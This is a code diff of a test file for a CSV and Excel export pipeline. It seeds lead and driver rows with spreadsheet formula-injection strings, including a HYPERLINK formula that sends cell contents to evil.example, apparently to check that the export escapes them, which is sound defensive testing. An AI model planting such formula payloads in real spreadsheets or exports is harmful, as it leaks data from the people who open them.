@@ -9,8 +9,8 @@ import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { errorLine, runCli } from '../helpers/cli.js';
 import { createTestDb, type TestDb } from '../helpers/db.js';
-import { insertDriver, insertLead, runPipeline } from '../helpers/rows.js';
-import { addDays, addTrips, businessToday } from '../helpers/scenario.js';
+import { runPipeline } from '../helpers/pipeline.js';
+import { addDays, addTrips, businessToday, insertDriver, insertLead } from '../helpers/rows.js';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"ver detalle")';
 
@@ -31,11 +31,11 @@ test.before(async () => {
   const db = await createTestDb('export');
   const today = await businessToday(db);
   const dates = { a: addDays(today, -20), b: addDays(today, -10), c: addDays(today, -3) };
-  await insertLead(db, { external_id: 'EXP-A', lead_created_at: `'${dates.a} 09:15'`, first_name: HOSTILE_NAME, last_name: 'Muñoz', park_phone: '977000001' });
-  await insertLead(db, { external_id: '=1+2', lead_created_at: `'${dates.b} 18:40'`, first_name: 'Ñandú', last_name: 'Pérez; "Ñato"', park_phone: '977000002' });
-  await insertLead(db, { external_id: 'EXP-C', lead_created_at: `'${dates.c} 07:00'`, first_name: '@SUM(A1:A9)', last_name: '-Ríos', park_phone: '977000003' });
-  await insertDriver(db, { driver_id: 'drv-a', phone: '51977000001', first_name: HOSTILE_NAME, last_name: 'Muñoz', hire_date: `DATE '${dates.a}'` });
-  await insertDriver(db, { driver_id: 'drv-b', phone: '51977000002', first_name: 'Ñandú', last_name: 'Pérez; "Ñato"', hire_date: `DATE '${dates.b}'` });
+  await insertLead(db, { external_id: 'EXP-A', lead_created_at: `${dates.a} 09:15`, first_name: HOSTILE_NAME, last_name: 'Muñoz', park_phone: '977000001' });
+  await insertLead(db, { external_id: '=1+2', lead_created_at: `${dates.b} 18:40`, first_name: 'Ñandú', last_name: 'Pérez; "Ñato"', park_phone: '977000002' });
+  await insertLead(db, { external_id: 'EXP-C', lead_created_at: `${dates.c} 07:00`, first_name: '@SUM(A1:A9)', last_name: '-Ríos', park_phone: '977000003' });
+  await insertDriver(db, { driver_id: 'drv-a', phone: '51977000001', first_name: HOSTILE_NAME, last_name: 'Muñoz', hire_date: dates.a });
+  await insertDriver(db, { driver_id: 'drv-b', phone: '51977000002', first_name: 'Ñandú', last_name: 'Pérez; "Ñato"', hire_date: dates.b });
   await addTrips(db, 'drv-a', [{ dateFile: dates.a, trips: 6 }]);
   await addTrips(db, 'drv-b', [{ dateFile: dates.b, trips: 1 }]);
   const run = await runPipeline(db);
